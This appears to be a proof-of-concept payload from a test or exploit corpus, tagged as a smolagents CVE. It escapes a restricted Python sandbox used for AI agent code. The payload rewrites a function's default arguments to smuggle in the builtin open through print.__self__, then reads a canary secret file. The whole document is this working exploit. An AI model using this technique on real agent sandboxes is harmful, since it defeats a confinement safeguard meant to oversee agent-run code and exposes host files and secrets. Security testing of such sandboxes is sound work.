# source: smolagents CVE-2026-4963
# effect: secret

def show(path, tool=len):
    return tool(path)


show.__defaults__ *= 0
show.__defaults__ += (print.__self__.open,)
print(show("/tmp/canary/secret").read())
